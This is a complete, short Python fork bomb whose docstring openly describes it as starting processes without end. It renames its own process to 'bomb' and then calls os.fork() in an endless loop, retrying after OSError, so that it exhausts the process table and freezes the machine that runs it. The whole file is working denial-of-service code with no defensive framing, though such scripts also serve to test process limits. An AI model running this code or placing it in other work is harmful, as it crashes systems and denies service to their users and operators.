#!/usr/bin/python3
"""Starts processes that start processes, without end."""
import os
import time

with open("/proc/self/comm", "wb") as file:
    file.write(b"bomb")
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
